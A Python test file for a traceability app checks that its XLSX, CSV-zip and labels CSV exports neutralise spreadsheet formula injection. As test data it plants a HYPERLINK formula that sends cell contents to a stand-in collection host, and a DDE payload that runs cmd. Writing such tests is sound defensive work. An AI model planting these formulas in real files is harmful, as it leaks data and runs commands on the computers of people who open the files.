"""Text typed by producers and by anonymous reporters comes back inert in every export:
the periodic XLSX, its CSV zip and the print shop's labels.csv (OWASP "CSV Injection")."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

from openpyxl import load_workbook

from tests.factories import make_batch, make_certificate, make_producer, make_product, make_token, make_user
from traceability.clock import local_today
from traceability.codes.models import LabelLevel
from traceability.codes.services import issue_label_run
from traceability.extensions import db
from traceability.resolver.models import CounterfeitReport, ReportStatus, ScanVerdict

HYPERLINK = '=HYPERLINK("http://thu-thap.example/?"&A2&B2,"Xem chi tiết")'
DDE = "=1+cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+84 giả mạo", "-2+3", "@SUM(A1:A9)", "\t=1+1", "＝1+1")


def _data():
    producer = make_producer(name=HYPERLINK)
    product = make_product(producer, name_vi=DDE)
    make_certificate(product, issued_on=local_today() - timedelta(days=5))
    controls = make_product(producer, name_vi="Tỏi\x0bđen")  # stored before input was checked
    make_certificate(controls, issued_on=local_today() - timedelta(days=5))
    for payload in PAYLOADS:
        db.session.add(CounterfeitReport(code="/01/08938500000014", product_id=product.id,
                                         verdict=ScanVerdict.FORGED, place_of_purchase=payload,
                                         message=payload, status=ReportStatus.OPEN))
    batch = make_batch(product, lot="-1+1")
    run = issue_label_run(batch, level=LabelLevel.UNIT, count=3)
    token = make_token(make_user("admin"))
    db.session.commit()
    return run, {"Authorization": f"Bearer {token}"}


def _report(client, headers, fmt):
    start, end = local_today() - timedelta(days=30), local_today()
    response = client.get(f"/api/v1/oversight/reports/periodic?start={start}&end={end}&format={fmt}",
                          headers=headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_the_periodic_xlsx_holds_no_formula_and_keeps_the_text_as_typed(client):
    _run, headers = _data()
    data = _report(client, headers, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    workbook = load_workbook(io.BytesIO(data))
    texts = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    for payload in (HYPERLINK, DDE, "@SUM(A1:A9)"):
        assert payload in texts
    assert "Tỏiđen" in texts                           # the control character dropped, not the file
    formula_like = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
    assert formula_like and all(cell.data_type == "s" and cell.quotePrefix for cell in formula_like)


def test_the_csv_zip_prefixes_every_formula_start_with_an_apostrophe(client):
    _run, headers = _data()
    with zipfile.ZipFile(io.BytesIO(_report(client, headers, "csv"))) as archive:
        values = [value for name in archive.namelist() if name.endswith(".csv")
                  for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")),
                                        delimiter=";")
                  for value in row]
    assert "'" + HYPERLINK in values and "'" + DDE in values and "'＝1+1" in values
    assert not [v for v in values if v.startswith(("=", "+", "@", "\t", "＝"))]


def test_the_print_shops_labels_csv_is_inert(client):
    run, headers = _data()
    response = client.get(f"/api/v1/label-runs/{run.id}/labels.csv", headers=headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert {row[1] for row in rows[1:]} == {"'" + DDE}
    assert {row[2] for row in rows[1:]} == {"'-1+1"}
